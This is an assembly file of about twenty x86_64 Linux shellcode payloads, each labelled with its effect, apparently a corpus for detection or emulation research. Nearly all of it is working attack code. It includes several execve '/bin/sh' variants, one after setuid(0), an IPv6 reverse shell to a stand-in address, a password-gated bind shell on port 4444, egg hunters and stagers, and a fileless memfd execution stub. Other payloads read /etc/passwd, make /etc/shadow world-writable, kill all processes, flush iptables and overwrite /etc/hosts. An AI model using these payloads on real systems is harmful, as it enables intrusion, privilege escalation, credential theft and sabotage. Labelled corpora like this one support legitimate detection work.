; Linux, 64 bit: what is done, and the ways of asking for it.

;= linux64_push32 64 | linux x86_64 | execute /bin//sh
	push 0x3b
	pop rax
	cdq
	push rdx
	mov dword [rsp-8], 0x6e69622f
	mov dword [rsp-4], 0x68732f2f
	sub rsp, 8
	push rsp
	pop rdi
	push rdx
	pop rsi
	syscall

;= linux64_neg 64 | linux x86_64 | execute /bin/sh
	xor esi, esi
	mul esi
	mov rbx, 0xff978cd091969dd1
	neg rbx
	push rbx
	push rsp
	pop rdi
	mov al, 59
	syscall

;= linux64_setuid_sh 64 | linux x86_64 | execute /bin/sh
	xor rdi, rdi
	push 105
	pop rax
	syscall
	mov rdi, '//bin/sh'
	shr rdi, 8
	push rdi
	mov rdi, rsp
	xor esi, esi
	xor edx, edx
	mov al, 59
	syscall

;= linux64_passwd 64 | linux x86_64 | call write
	jmp short b
a:	pop rdi
	xor rax, rax
	mov [rdi + 11], al
	add al, 2
	xor esi, esi
	syscall
	sub sp, 0xfff
	lea rsi, [rsp]
	mov rdi, rax
	xor rdx, rdx
	mov dx, 0xfff
	xor eax, eax
	syscall
	xor rdi, rdi
	inc dil
	mov rdx, rax
	xor rax, rax
	inc al
	syscall
	mov al, 60
	syscall
b:	call a
	db '/etc/passwdA'

;= linux64_kill 64 | linux x86_64 | call process.terminate
	push 62
	pop rax
	push -1
	pop rdi
	push 9
	pop rsi
	syscall

;= linux64_chmod 64 | linux x86_64 | call file.attributes //////etc/shadow
	xor rsi, rsi
	mul rsi
	push rsi
	mov rbx, 0x776f646168732f63
	push rbx
	mov rbx, 0x74652f2f2f2f2f2f
	push rbx
	mov rdi, rsp
	mov si, 0666o
	mov al, 90
	syscall

;= linux64_mkdir 64 | linux x86_64 | write /tmp/dir
	push 83
	pop rax
	cdq
	push rdx
	mov rbx, '/tmp/dir'
	push rbx
	push rsp
	pop rdi
	mov si, 0x1ff
	syscall

;= linux64_iptables 64 | linux x86_64 | execute /sbin/iptables -F
	xor rax, rax
	push rax
	push word 0x462d
	mov rcx, rsp
	mov rbx, 0x73656c626174ffff
	shr rbx, 0x10
	push rbx
	mov rbx, 0x70692f6e6962732f
	push rbx
	mov rdi, rsp
	push rax
	push rcx
	push rdi
	mov rsi, rsp
	cdq
	mov al, 0x3b
	syscall

;= linux64_egg_access 64 | linux x86_64 | call access
	xor esi, esi
	push rsi
	pop rdi
p:	or di, 0xfff
n:	inc rdi
	push 21
	pop rax
	syscall
	cmp al, 0xf2
	jz p
	mov eax, 0x50905090
	scasd
	jnz n
	jmp rdi

;= linux64_egg_link 64 | linux x86_64 | call file.copy
	xor rsi, rsi
	mov ebx, 0xbeefbeee
	inc ebx
x:	or si, 0xfff
y:	inc rsi
	mov al, 86
	movzx eax, al
	lea rdi, [rsi + 8]
	syscall
	cmp al, 0xf2
	je x
	cmp dword [rsi + 4], ebx
	jne y
	cmp dword [rsi], ebx
	jne y
	jmp rsi

;= linux64_read_stage 64 | linux x86_64 | call read 0
	xor edi, edi
	mov rsi, rsp
	push 0x7f
	pop rdx
	xor eax, eax
	syscall
	jmp rsi

;= linux64_mmap_stage 64 | linux x86_64 | call mmap
	push 9
	pop rax
	xor edi, edi
	mov esi, 0x1000
	push 7
	pop rdx
	push 0x22
	pop r10
	xor r8d, r8d
	dec r8
	xor r9d, r9d
	syscall
	xchg rsi, rax
	xor edi, edi
	mov dx, 0x1000
	xor eax, eax
	syscall
	call rsi

;= linux64_bind_udp 64 | linux x86_64 | call bind
	push 41
	pop rax
	push 2
	pop rdi
	push 2
	pop rsi
	cdq
	syscall
	xchg rdi, rax
	push rdx
	mov dword [rsp - 4], edx
	mov dword [rsp - 8], 0x35000002
	sub rsp, 8
	mov rsi, rsp
	mov dl, 16
	mov al, 49
	syscall
	xor eax, eax
	sub rsp, 0x200
	mov rsi, rsp
	mov dx, 0x200
	syscall
	jmp rsi

;= linux64_reverse6 64 | linux x86_64 | connect 2001:db8::5
	push 10
	pop rdi
	push 1
	pop rsi
	cdq
	push 41
	pop rax
	syscall
	xchg edi, eax
	push rdx
	mov rax, 0x0500000000000000
	push rax
	mov rax, 0x00000000b80d0120
	push rax
	mov rax, 0x000000005d11000a
	push rax
	mov rsi, rsp
	mov dl, 28
	push 42
	pop rax
	syscall
	push 3
	pop rsi
l:	dec rsi
	push 33
	pop rax
	syscall
	jnz l
	cdq
	push rdx
	mov rbx, '/bin/zsh'
	push rbx
	mov rdi, rsp
	push rdx
	push rdi
	mov rsi, rsp
	push 59
	pop rax
	syscall

;= linux64_execveat 64 | linux x86_64 | call execveat 0
	push 322
	pop rax
	cdq
	push rdx
	pop rdi
	mov rbx, '/bin//sh'
	push rdx
	push rbx
	push rsp
	pop rsi
	xor r10d, r10d
	xor r8d, r8d
	syscall

;= linux64_hosts 64 | linux x86_64 | write /etc///////hosts
	push 2
	pop rax
	xor rdi, rdi
	push rdi
	mov rbx, 0x7374736f682f2f2f
	push rbx
	mov rbx, 0x2f2f2f2f6374652f
	push rbx
	push rsp
	pop rdi
	xor rsi, rsi
	mov si, 0x401
	syscall
	xchg rax, rdi
	jmp short d
w:	pop rsi
	push 18
	pop rdx
	push 1
	pop rax
	syscall
	push 3
	pop rax
	syscall
	push 60
	pop rax
	xor rdi, rdi
	syscall
d:	call w
	db '192.0.2.1 host.lan'

;= linux64_sendfile 64 | linux x86_64 | call sendfile
	xor rsi, rsi
	push rsi
	mov rdi, '/etc/pas'
	mov rax, 0x00000000647773
	push rax
	push rdi
	mov rdi, rsp
	push 2
	pop rax
	syscall
	mov rsi, rax
	push 1
	pop rdi
	xor edx, edx
	mov r10d, 4096
	push 40
	pop rax
	syscall

;= linux64_ptrace_exec 64 | linux x86_64 | execute /bin/ls
	xor edi, edi
	xor esi, esi
	xor edx, edx
	xor r10d, r10d
	push 101
	pop rax
	syscall
	test rax, rax
	js e
	mov rax, '/bin/ls'
	push rax
	mov rdi, rsp
	xor edx, edx
	push rdx
	push rdi
	mov rsi, rsp
	push 59
	pop rax
	syscall
e:	push 60
	pop rax
	syscall

;= linux64_tcpbind_pw 64 | linux x86_64 | bind 4444
	push 41
	pop rax
	push 2
	pop rdi
	push 1
	pop rsi
	cdq
	syscall
	xchg rdi, rax
	push rdx
	push dword 0x5c110002
	push rsp
	pop rsi
	push 16
	pop rdx
	push 49
	pop rax
	syscall
	push 50
	pop rax
	xor esi, esi
	syscall
	push 43
	pop rax
	cdq
	syscall
	xchg rdi, rax
	push rax
	mov rsi, rsp
	push 4
	pop rdx
	xor eax, eax
	syscall
	cmp dword [rsi], 'pass'
	jne q
	push 2
	pop rsi
l:	push 33
	pop rax
	syscall
	dec esi
	jns l
	xor esi, esi
	mov rbx, '/bin//sh'
	push rsi
	push rbx
	push rsp
	pop rdi
	push 59
	pop rax
	cdq
	syscall
q:	push 60
	pop rax
	syscall

;= linux64_memfd 64 | linux x86_64 | call memfd_create
	push 0x61
	push rsp
	pop rdi
	xor esi, esi
	mov eax, 319
	syscall
	xchg rdi, rax
	lea rsi, [rel s]
	push 20
	pop rdx
	push 1
	pop rax
	syscall
	push 0
	push rsp
	pop rsi
	xor edx, edx
	xor r10d, r10d
	mov r8d, 0x1000
	mov eax, 322
	syscall
s:	db '#!/bin/sh', 10, 'id', 10, 'exit 0',10, 0

;= linux64_unlink 64 | linux x86_64 | call file.delete /tmp/file
	lea rdi, [rel s]
	push 87
	pop rax
	syscall
	push 60
	pop rax
	syscall
s:	db '/tmp/file', 0
